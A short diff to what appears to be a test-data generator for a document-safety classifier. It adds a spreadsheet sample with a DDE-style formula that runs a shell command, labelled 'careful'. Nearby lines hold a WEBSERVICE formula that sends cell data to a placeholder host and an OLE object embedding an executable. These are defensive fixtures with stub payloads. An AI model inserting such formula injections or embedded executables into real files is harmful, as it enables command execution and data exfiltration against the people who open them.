@@ -150,6 +150,7 @@ def _zipped() -> Iterator[Sample]:
     yield careful(
         "document-office", "formula", "table.xlsx", _sheet("WEBSERVICE(&quot;https://a.invalid/&quot;&amp;A1)")
     )
+    yield careful("document-office", "formula that starts", "table.xlsx", _sheet("cmd|'/c echo'!A0"))
     yield benign("document-office", "sum", "table.xlsx", _sheet("SUM(A1:A2)"))
     yield careful("document-office", "control", "letter.docx", office(word__activeX__activeX1_dot_bin=bytes(9)))
     ole = compound(__Ole10Native=package("invoice.exe", pe()))
